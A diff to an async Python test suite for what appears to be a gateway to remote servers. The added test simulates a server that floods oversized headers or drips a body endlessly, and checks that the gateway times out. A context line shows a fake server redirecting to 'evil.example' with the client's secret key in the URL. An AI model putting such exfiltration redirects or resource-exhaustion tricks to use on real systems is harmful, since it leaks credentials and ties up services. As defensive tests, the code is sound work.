@@ -195,6 +195,25 @@ async def test_an_answer_over_the_limit_is_refused_before_it_is_read_whole(
             assert answer["error"]["data"]["code"] == "remote.too_large"
 
 
+async def test_endless_headers_and_a_body_that_drips_are_given_up(settings: Settings) -> None:
+    async def handler(request: Request, reply: Reply) -> None:
+        if request.body["params"]["arguments"]["as"] == "headers":
+            reply.head(200, {f"X-{n}": "x" * 1000 for n in range(400)})
+            return
+        reply.head(200, {"Content-Type": "application/json", "Content-Length": "100"})
+        with contextlib.suppress(ConnectionError):
+            while True:
+                await reply.more(b" ")
+                await asyncio.sleep(0.01)
+
+    hasty = settings.model_copy(update={"call_timeout_s": 0.3})
+    async with far(hasty, greeting(handler)) as (_, _, http, session):
+        answer = await call(http, session, **{"as": "headers"})
+        assert answer["error"]["data"]["code"] == "remote.unreachable"
+        answer = await call(http, session, **{"as": "drip"})
+        assert answer["error"]["data"]["code"] == "gateway.call_timeout"
+
+
 async def test_a_secret_that_the_server_sends_back_in_an_error_is_not_passed_on(settings: Settings) -> None:
     async def handler(request: Request, reply: Reply) -> None:
         await reply.send(302, Location=f"https://evil.example/?{request.headers['x-key']}")
